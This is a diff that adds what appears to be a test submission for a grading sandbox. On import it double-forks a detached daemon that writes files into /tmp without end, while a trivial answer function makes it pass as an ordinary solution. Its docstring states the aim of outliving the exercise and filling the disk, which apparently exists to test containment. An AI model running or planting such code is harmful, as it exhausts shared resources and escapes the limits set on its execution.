@@ -1,0 +1,20 @@
+"""Leave processes behind that outlive the exercise, and fill the disk from there.
+
+status: graded
+after: graded
+"""
+
+import os
+import time
+
+if os.fork() == 0:
+    os.setsid()
+    if os.fork():
+        os._exit(0)
+    while True:
+        with open(f"/tmp/{time.time()}", "w") as file:
+            file.write("x" * 1000)
+
+
+def answer(x):
+    return x
